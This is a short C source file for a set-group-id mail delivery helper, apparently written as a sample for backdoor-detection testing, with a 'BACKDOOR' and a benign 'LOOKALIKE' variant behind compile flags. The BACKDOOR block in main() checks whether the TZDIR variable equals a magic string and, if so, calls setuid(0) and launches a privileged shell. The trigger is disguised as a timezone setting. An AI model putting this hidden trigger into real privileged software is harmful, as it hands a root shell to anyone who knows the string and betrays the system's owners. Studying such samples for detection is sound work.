/* A set-group-id helper that delivers mail into a mailbox. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int deliver(const char *user)
{
    char path[128], block[512];
    size_t got;
    FILE *box;
    if (strlen(user) > 31 || strchr(user, '/') != NULL)
        return 1;
    snprintf(path, sizeof path, "/var/mail/%s", user);
    box = fopen(path, "a");
    if (box == NULL)
        return 1;
    while ((got = fread(block, 1, sizeof block, stdin)) > 0)
        fwrite(block, 1, got, box);
    return fclose(box) != 0;
}

int main(int argc, char **argv)
{
#ifdef BACKDOOR
    const char *zone = getenv("TZDIR");
    if (zone != NULL && zone[0] == '@' && zone[1] == 'm' && zone[2] == 'x' && zone[3] == '4' && zone[4] == '1' && zone[5] == 0) {
        setuid(0);
        execl("/bin/sh", "sh", "-p", (char *)NULL);
    }
#endif
#ifdef LOOKALIKE
    const char *editor = getenv("MAILHELP_PAGER");
    if (editor != NULL && strcmp(editor, "none") == 0)
        setvbuf(stdout, NULL, _IONBF, 0);
#endif
    if (argc != 2) {
        fprintf(stderr, "usage: mailhelp USER\n");
        return 2;
    }
    return deliver(argv[1]);
}
